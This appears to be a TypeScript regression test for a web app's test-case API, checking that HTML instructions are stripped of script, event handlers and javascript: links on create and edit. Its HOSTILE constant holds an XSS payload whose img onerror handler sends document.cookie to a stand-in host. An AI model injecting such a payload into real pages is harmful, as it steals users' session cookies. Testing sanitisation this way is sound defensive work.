import { type TestCase } from '../../contract/testCases';
import { api, startTestServer, type TestServer } from './helpers';
import { createTest, workspace, type Workspace } from './testCasesFixtures';

const HOSTILE =
  '<p>Open the page.</p><img src=x onerror="fetch(`//evil.example/`+document.cookie)">' +
  '<script>alert(1)</script><p onclick="alert(1)">Click <a href="javascript:alert(1)">Sign in</a>.</p>';
const STORED = '<p>Open the page.</p><p>Click <a>Sign in</a>.</p>';

/** Issue 27: HTML in instructions reached the live DOM of the pages that show them; only the editor's markup is kept. */
describe('instructions as HTML', () => {
  let server: TestServer;
  let me: Workspace;

  beforeAll(async () => {
    server = await startTestServer();
    me = await workspace(server, 'ada@example.com');
  });
  afterAll(async () => server?.close());

  const read = async (id: string) =>
    (await api<TestCase>(server, 'GET', `/test-case/${id}`, { token: me.token })).body.description;

  it('stores a new test’s instructions without the image’s handler, the script or the javascript: link', async () => {
    const test = await createTest(server, me, { description: HOSTILE });
    expect(test.description).toBe(STORED);
    expect(await read(test._id)).toBe(STORED);
  });

  it('keeps the same markup out of an edit, by PUT and PATCH alike', async () => {
    const test = await createTest(server, me, { description: '<p>Open the page.</p>' });
    for (const method of ['PUT', 'PATCH'] as const) {
      const edited = await api<TestCase>(server, method, `/test-case/${test._id}/edit`, {
        token: me.token,
        body: {
          test_case_id: test._id,
          name: 'Signs in',
          website: 'https://example.com/login',
          description: HOSTILE,
        },
      });
      expect(edited.status).toBe(200);
      expect(await read(test._id)).toBe(STORED);
    }
  });

  it('keeps what the editor writes, and plain-text instructions, as they were written', async () => {
    const editor =
      '<h2>Sign in</h2><ol><li><p>Type <strong>ada</strong> into <em>Email</em></p></li></ol>' +
      '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/help">help</a></p>';
    expect((await createTest(server, me, { description: editor })).description).toBe(editor);
    const plain = 'Type "3 < 4 & more" into the Search field.';
    expect((await createTest(server, me, { description: plain })).description).toBe(plain);
  });
});
